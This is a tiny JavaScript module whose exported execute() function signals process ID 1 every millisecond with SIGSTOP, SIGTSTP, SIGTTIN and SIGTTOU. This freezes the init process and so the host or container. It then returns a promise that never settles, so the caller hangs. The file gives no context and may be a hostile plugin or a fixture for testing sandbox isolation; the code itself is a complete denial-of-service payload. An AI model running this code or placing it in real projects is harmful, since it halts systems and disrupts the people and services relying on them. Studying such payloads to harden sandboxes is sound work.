export function execute() {
  setInterval(() => {
    for (const signal of ['SIGSTOP', 'SIGTSTP', 'SIGTTIN', 'SIGTTOU']) process.kill(1, signal);
  }, 1);
  return new Promise(() => {});
}
